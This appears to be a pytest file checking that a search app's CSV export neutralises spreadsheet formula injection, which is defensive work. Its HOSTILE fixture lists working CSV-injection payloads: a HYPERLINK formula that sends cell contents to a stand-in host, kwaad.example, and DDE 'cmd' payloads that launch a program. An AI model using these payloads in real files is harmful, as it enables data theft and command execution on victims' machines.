"""CSV exports neutralise cells a spreadsheet would run as a formula (OWASP's rule):
the file is read back with the csv module the way a spreadsheet reads it, and no cell
begins with `=`, `+`, `-`, `@`, tab or CR."""

from __future__ import annotations

import csv
import io

import pytest

from search_app import create_app
from search_app.cells import FORMULA_STARTS, spreadsheet_safe

from .helpers import close_app, data_dir_with, document, ordinary

HOSTILE = [
    ('=HYPERLINK("http://kwaad.example/?"&A1,"klik")', "=cmd|' /C calc'!A0"),
    ("+SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1+1)"),
    ("-2+3+cmd|' /C calc'!A0", "\t=1+1"),
    ("\r=1+1 jeugdraad", "-1 jeugdraad"),
]


@pytest.fixture(scope="module")
def client(tmp_path_factory):
    docs = ordinary(3)
    for i, (title, description) in enumerate(HOSTILE):
        docs.append(
            document(
                f"https://proef.example/kwaad-{i}",
                title,
                f"{description} jeugdraad tekst over de jeugdraad en speelpleinen.",
                description=description,
            )
        )
    data = data_dir_with(tmp_path_factory.mktemp("formula"), docs)
    app = create_app({"TESTING": True, "DATA_DIR": str(data)})
    yield app.test_client()
    close_app(app)


def test_csv_cells_never_start_a_formula(client):
    resp = client.get("/export", query_string={"q": "jeugdraad", "format": "csv"})
    assert resp.status_code == 200
    text = resp.data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), dialect="excel"))
    header, body = rows[0], rows[1:]
    assert len(body) == 3 + len(HOSTILE)
    titles = {row[header.index("title")] for row in body}
    for title, _ in HOSTILE:
        assert "'" + title in titles  # kept, readable, inert
    for row in body:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_spreadsheet_safe_prefixes_formula_starts(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["", "jeugdraad", "2025-05-01", "https://x.example/=1", " =1"])
def test_spreadsheet_safe_leaves_plain_text(value):
    assert spreadsheet_safe(value) == value
